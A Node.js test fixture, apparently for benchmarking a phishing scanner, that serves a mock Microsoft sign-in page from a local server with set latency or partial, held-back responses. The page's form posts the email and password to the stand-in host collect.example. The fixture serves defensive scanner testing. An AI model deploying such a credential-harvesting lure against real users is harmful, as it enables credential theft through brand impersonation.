/**
 * The benchmark's target site, in its own process so it does not share the
 * scanner's event loop: every page after 50 ms, or (hold mode) headers and
 * the first 16 KiB, then the rest when told. Sends its port to the parent.
 */

import { createServer } from 'node:http'

const LATENCY_MS = 50
const PAGE = `<!DOCTYPE html><html><head><title>Sign in to your account</title></head><body>
<img src="/microsoft_logo.svg"><form method="post" action="https://collect.example/p">
<input type="email" name="loginfmt"><input type="password" name="pw"><input type="submit" value="Next">
</form><footer>©2026 Microsoft</footer>${'<p>filler text for a page of realistic size</p>'.repeat(400)}</body></html>`

const held = []

const server = createServer((req, res) => {
  res.writeHead(200, { 'Content-Type': 'text/html' })
  if (req.url?.startsWith('/held')) {
    res.write(PAGE.slice(0, 16 * 1024))
    held.push(() => res.end(PAGE.slice(16 * 1024)))
    process.send?.({ held: true })
    return
  }
  setTimeout(() => res.end(PAGE), LATENCY_MS)
})

process.on('message', (message) => {
  if (message === 'release') for (const release of held.splice(0)) release()
  if (message === 'stop') {
    server.closeAllConnections()
    server.close(() => process.exit(0))
  }
})

server.listen(0, process.argv[2] ?? '127.0.0.2', () =>
  process.send?.({ port: server.address().port }),
)
